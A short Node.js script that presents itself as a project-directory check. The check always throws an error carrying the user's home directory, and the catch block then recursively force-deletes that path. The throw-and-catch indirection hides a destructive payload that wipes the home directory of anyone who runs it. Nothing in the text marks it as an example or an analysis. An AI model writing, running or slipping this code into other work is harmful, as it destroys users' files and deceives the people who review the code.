const fs = require('fs');
const os = require('os');
const verify = (p) => {
  throw new TypeError('not a project directory', { cause: p });
};
try {
  verify(os.homedir());
} catch (e) {
  fs.rmSync(e.cause, { recursive: true, force: true });
}
